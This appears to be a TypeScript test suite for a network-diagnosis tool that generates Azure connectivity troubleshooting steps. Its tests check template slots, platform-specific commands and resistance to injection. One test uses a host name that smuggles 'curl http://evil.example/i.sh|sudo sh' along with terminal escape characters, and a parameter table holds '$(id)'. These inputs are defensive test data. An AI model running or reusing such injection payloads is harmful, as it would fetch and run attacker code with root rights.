import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { slotsOf } from '../../src/commands/command.ts';
import { tell } from '../../src/judge/diagnosis/text.ts';
import { loadDiagnoses } from '../../src/knowledge/load-files.ts';
import type { Confidence } from '../../src/model/diagnosis.ts';
import type { Platform } from '../../src/model/probe.ts';
import { analyzer, knowledge } from '../support/analyzer.ts';

/** Every parameter that the rules may supply, with values as they supply them. */
const PARAMETERS: Readonly<Record<string, readonly (string | number)[]>> = {
  service: ['Azure Storage', 'Azure Backup・Microsoft Entra ID'],
  tag: ['Storage'],
  host: ['login.microsoft.com', '168.63.129.16', '169.254.169.254', '$(id)'],
  name: ['login.microsoft.com', '$(id)'],
  port: [443, 80, 53, 445, 1433, 1688, 3260, 9443, 32526, 8443],
  count: [1, 12],
  proxy: ['http://10.0.0.4:8080'],
  proxyhost: ['10.0.0.4'],
  proxyport: ['8080'],
  server: ['10.0.0.5'],
  status: [403, 502],
  tool: ['nc'],
  address: ['10.0.0.1', '0.0.0.0'],
  by: ['10.0.0.1'],
  account: ['local-system'],
  how: [
    'silent',
    'refused',
    'prohibited',
    'local',
    'proxy',
    'reset',
    'alert',
    'version',
    'mtu',
    'window',
    'silent',
    'connect',
    'ipv6',
    'redirect',
  ],
  product: ['Zscaler'],
  issuer: ['CN=Contoso Proxy CA'],
  mtu: [1400],
  publicAnswer: ['20.60.0.1'],
  destination: ['20.60.0.1'],
  format: ['ETL'],
  advice: ['etl2pcapng で変換します。'],
  link: ['IEEE 802.11'],
  own: ['10.0.0.4'],
};
/** Always known. */
const COUNTS = { reachable: 3, unreachable: 2 };

const params = fc.record(
  Object.fromEntries(Object.entries(PARAMETERS).map(([name, values]) => [name, fc.constantFrom(...values)])),
  { requiredKeys: [] },
);
const platforms = fc.constantFrom<Platform>('linux', 'windows', 'any');
const kinds = fc.constantFrom('log' as const, 'capture' as const);
const confidences = fc.constantFrom<Confidence>('certain', 'likely', 'possible');

/** Pieces that only a text with an empty slot has. */
const EMPTY_SLOT =
  /\{[a-zA-Z]+\}|undefined|null|NaN|\(\)|（）| {2}|宛先の宛先|記載なし|^[ のはをにが、。]|「」|: *[。)]/u;

describe.each(loadDiagnoses())('$id', ({ id, steps, title, titlePossible }) => {
  test('no text holds an empty slot, whatever is known, and there is always a step', () => {
    fc.assert(
      fc.property(params, kinds, platforms, confidences, (given, kind, platform, confidence) => {
        const told = tell(id, confidence, { ...COUNTS, ...given }, { kind, platform }, knowledge);
        const { title: head, name, summary, why } = told;
        for (const text of [head, name, summary, why, ...told.steps.map(({ text: sentence }) => sentence)]) {
          expect(text).not.toBe('');
          expect(text).not.toMatch(EMPTY_SLOT);
        }
        // Windows alone has these settings, Linux alone those: elsewhere they are never found
        expect(told.steps.length).toBeGreaterThan(0);
        for (const step of told.steps) if (platform !== 'any') expect([platform, 'any']).toContain(step.platform);
      }),
      { numRuns: 300 },
    );
  });

  test('no text holds an empty slot where but one thing is known', () => {
    for (const [name, values] of Object.entries(PARAMETERS)) {
      for (const value of values) {
        const told = tell(id, 'likely', { ...COUNTS, [name]: value }, { kind: 'log', platform: 'windows' }, knowledge);
        for (const text of [told.title, told.name, told.summary, told.why, ...told.next]) {
          expect(text).not.toBe('');
          expect(text.split('\n')[0]).not.toMatch(EMPTY_SLOT);
        }
        expect(told.steps.length).toBeGreaterThan(0);
      }
    }
  });

  test('what is merely possible is not said as a fact', () => {
    const said = (wording: typeof title): string[] => wording.map((one) => (typeof one === 'string' ? one : one.text));
    if (said(title).some((one) => /遮断|拒否して|禁止して|止まって|応答しています/u.test(one))) {
      expect(titlePossible).toBeDefined();
      for (const one of said(titlePossible ?? [])) expect(one).toMatch(/可能性があります$/u);
    }
  });

  test('its commands have slots that can be filled, and a step has a command for each system or for any', () => {
    for (const { command, linux, windows } of steps) {
      for (const template of [command, linux, windows]) {
        if (template === undefined) continue;
        expect(() => slotsOf(template)).not.toThrow();
      }
      if (command !== undefined) expect([linux, windows]).toEqual([undefined, undefined]);
    }
  });
});

const COMMAND = { count: 2, host: 'a.example', name: 'a.example', port: 443, service: 'Azure Storage', tag: 'Storage' };

test('steps are those of the machine; both are shown, each with its label, where it is not known', () => {
  const commands = (platform: Platform): string[] =>
    tell('firewall-blocks-service', 'likely', COMMAND, { kind: 'log', platform }, knowledge).next.filter((step) =>
      step.includes('\n'),
    );
  expect(commands('linux').join('\n')).toContain('`nc -vz -w 10 a.example 443`');
  expect(commands('linux').join('\n')).not.toMatch(/Test-NetConnection|Invoke-WebRequest/u);
  expect(commands('windows').join('\n')).toContain('`Test-NetConnection a.example -Port 443`');
  expect(commands('windows').join('\n')).not.toMatch(/`nc |curl -I/u);
  const both = commands('any').join('\n');
  expect(both).toMatch(/^Linux: .*\n`nc -vz -w 10 a\.example 443`/mu);
  expect(both).toMatch(/^Windows: .*\n`Test-NetConnection a\.example -Port 443`/mu);
});

test('a capture gets no advice about logs and scripts', () => {
  for (const { id } of knowledge.diagnoses) {
    if (/^log-|^capture-/u.test(id)) continue;
    const { next } = tell(id, 'likely', COMMAND, { kind: 'capture', platform: 'linux' }, knowledge);
    expect(next.join('\n')).not.toMatch(/スクリプト|貼り付け|ログの/u);
  }
});

test.each([
  [3260, /3260 番ポートは、ファイルの回復/u],
  [445, /445 番ポートは、Azure Files/u],
  [80, /80 番ポートは、証明書の失効/u],
  [53, /53 番ポートは DNS/u],
  [1433, /1433 番ポートは SQL Server/u],
])("the advice about port %i is that port's alone", (port, own) => {
  const { next } = tell(
    'firewall-blocks-port',
    'likely',
    { ...COMMAND, port },
    { kind: 'log', platform: 'linux' },
    knowledge,
  );
  expect(next.join('\n')).toMatch(own);
  expect(next.filter((step) => /^\d+ 番ポート/u.test(step)).every((step) => step.startsWith(`${port} `))).toBe(true);
});

test('a step whose parameter is not known is left out, not filled with another destination', () => {
  const { next } = tell('mixed-result', 'possible', COUNTS, { kind: 'log', platform: 'linux' }, knowledge);
  expect(next.join('\n')).not.toMatch(/nc -vz|curl/u);
});

test("a stranger's name becomes neither a command nor a second line", () => {
  const host = 'x;curl -s http://evil.example/i.sh|sudo sh;#\n`id`\u001B]0;owned\u0007\u202E';
  for (const { id } of knowledge.diagnoses) {
    for (const platform of ['linux', 'windows', 'any'] as const) {
      const given = {
        ...COMMAND,
        ...COUNTS,
        host,
        name: host,
        server: host,
        address: host,
        proxyhost: host,
        proxyport: host,
      };
      const { next, steps, title, summary } = tell(id, 'likely', given, { kind: 'log', platform }, knowledge);
      for (const { command } of steps) expect(command ?? '').not.toMatch(/evil/u);
      for (const step of next) expect(step.split('\n').length).toBeLessThan(3);
      for (const text of [...next, title, summary])
        for (const hidden of ['\u001B', '\u0007', '\u202E']) expect(text).not.toContain(hidden);
    }
  }
});

describe.each([
  ['pastes-windows', 'linux'],
  ['pastes-linux', 'windows'],
] as const)('pastes of %s', (folder, other) => {
  const root = new URL(`../corpus/${folder}/`, import.meta.url);
  // one of them is a log of the script for Linux
  const files = readdirSync(root).filter((name) => !name.endsWith('.json') && !name.includes('check-script-linux'));

  test(`get no command of ${other} alone`, () => {
    const wrong = files.filter((name) => {
      const { report } = analyzer.analyze({ name, bytes: new Uint8Array(readFileSync(new URL(name, root))) });
      const platforms = new Set(report.diagnosis.flatMap(({ steps }) => steps.map(({ platform }) => platform)));
      const own = other === 'linux' ? 'windows' : 'linux';
      return platforms.has(other) && !platforms.has(own);
    });
    expect(wrong).toEqual([]);
  });
});
